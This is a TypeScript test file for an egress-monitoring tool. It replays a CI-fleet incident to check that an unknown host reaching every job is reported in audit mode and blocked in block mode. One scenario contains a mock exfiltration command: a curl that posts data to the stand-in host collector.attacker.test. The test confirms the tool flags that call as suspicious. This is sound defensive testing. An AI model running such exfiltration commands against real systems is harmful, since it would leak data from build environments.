// docs/incidents/every-job.md
import t from 'tap'
import { type Lab, openLab } from '../../lab/lab.ts'
import { whyNoLab } from '../../lab/requirements.ts'
import { tidegate } from '../behind.ts'
import { itIsTold, itWasStopped, itWorked, replay, type Incident, type Replayed } from './replay.ts'

t.setTimeout(240_000)

const stranger = 'api.ipify.org'
const thief = 'collector.attacker.test'
/** What each job of the fleet needs; all of them check out. */
const fleet: Readonly<Record<string, readonly string[]>> = {
  web: ['github.com', 'registry.npmjs.org'],
  shop: ['github.com', 'registry.npmjs.org'],
  model: ['github.com', 'pypi.org', 'files.pythonhosted.org'],
  engine: ['github.com', 'index.crates.io', 'static.crates.io'],
}
const names = Object.keys(fleet)

/** The runner's own agent, before the job's steps; in one job a dependency that is after something else. */
const agent = `curl -sS -m 10 -A runner-agent/2 -o /dev/null 'https://${stranger}/?format=json' || true`
const theft = `curl -sS -m 10 -o /dev/null -d runner-agent/2 https://${thief}/ || true`

function dayOf(job: string, before: string, options: readonly string[]): Incident<'agent' | 'build'> {
  const hosts = fleet[job] ?? []
  return {
    attacker: [stranger, thief],
    honest: [...new Set(Object.values(fleet).flat())],
    spoils: ['runner-agent/2'],
    policy: `allow:\n${hosts.map(host => `  - GET ${host}\n`).join('')}`,
    steps: {
      agent: before,
      build: `curl -sS -o /dev/null --fail ${hosts.map(host => `https://${host}/bytes/9`).join(' -o /dev/null ')}`,
    },
    options: ['--job', job, ...options],
  }
}

interface Told {
  readonly exitCode: number
  readonly findings: readonly {
    readonly class: string
    readonly host: string
    readonly jobs: readonly string[]
    readonly refused: boolean
  }[]
}

async function fleetOf(lab: Lab, runs: readonly Replayed<'agent' | 'build'>[], lock: string): Promise<Told> {
  const logs = runs.map(({ out }) => out)
  const { exitCode, stdout, stderr } = await lab.host.exec(tidegate, ['fleet', '--json', '--lock', lock, ...logs])
  if (exitCode === undefined || exitCode > 1) throw new Error(stderr)
  return { exitCode, ...JSON.parse(stdout) }
}

t.test('November 2024: the same unknown host in every job', { skip: whyNoLab() }, async t => {
  await using lab = await openLab()
  const lock = lab.file('egress.lock')
  const quiet: Replayed<'agent' | 'build'>[] = []
  for (const job of names) quiet.push(await replay(lab, dayOf(job, 'true', ['--lock', lock]), 'audit'))
  const made = await lab.host.exec(tidegate, ['lock', 'update', '--lock', lock, ...quiet.map(({ out }) => out)])
  t.equal(made.exitCode, 0, made.stderr)
  t.same((await fleetOf(lab, quiet, lock)).findings, [], 'a quiet day')

  const told = { host: stranger, exe: /\/curl$/, parent: /\/(?:da)?sh$/, reason: 'no-rule' }
  await t.test('in audit each job says it, and the fleet says it once', async t => {
    const runs: Replayed<'agent' | 'build'>[] = []
    for (const job of names) {
      const incident = dayOf(job, agent, ['--lock', lock])
      const run = await replay(lab, incident, 'audit')
      await itWorked(t, lab, incident)
      itIsTold(t, run, { ...told, verdict: 'observe', layer: 'http' })
      t.match(run.findings, [{ kind: 'new-host', host: stranger, process: /^curl/ }], 'and nothing else')
      t.equal(run.findings.length, 1)
      runs.push(run)
    }
    const fleetToday = await fleetOf(lab, runs, lock)
    t.match(fleetToday, { exitCode: 0, findings: [{ class: 'infrastructure', host: stranger, refused: false }] })
    t.equal(fleetToday.findings.length, 1)
    t.same(fleetToday.findings[0]?.jobs, names.toSorted())

    const one = await replay(lab, dayOf('web', `${agent}; ${theft}`, ['--lock', lock]), 'audit')
    const withTheft = await fleetOf(lab, [...runs.slice(1), one], lock)
    t.equal(withTheft.exitCode, 1)
    t.match(
      withTheft.findings.map(finding => ({ ...finding, jobs: finding.jobs.join() })),
      [
        { class: 'suspicious', host: thief, jobs: 'web' },
        { class: 'infrastructure', host: stranger, jobs: names.toSorted().join() },
      ],
      'what is in one job alone stands out',
    )
  })

  await t.test('in block it goes nowhere, the builds go on, and the fleet says it once', async t => {
    const runs: Replayed<'agent' | 'build'>[] = []
    for (const job of names) {
      const incident = dayOf(job, agent, ['--lock', lock, '--frozen'])
      const run = await replay(lab, incident, 'block')
      await itWasStopped(t, lab, incident)
      itIsTold(t, run, { ...told, verdict: 'deny', layer: 'dns' })
      t.equal(run.step('build').exitCode, 0, run.step('build').stderr)
      runs.push(run)
    }
    const { findings } = await fleetOf(lab, runs, lock)
    t.match(findings, [{ class: 'infrastructure', host: stranger, refused: true, jobs: { length: names.length } }])
    t.equal(findings.length, 1)
  })
})
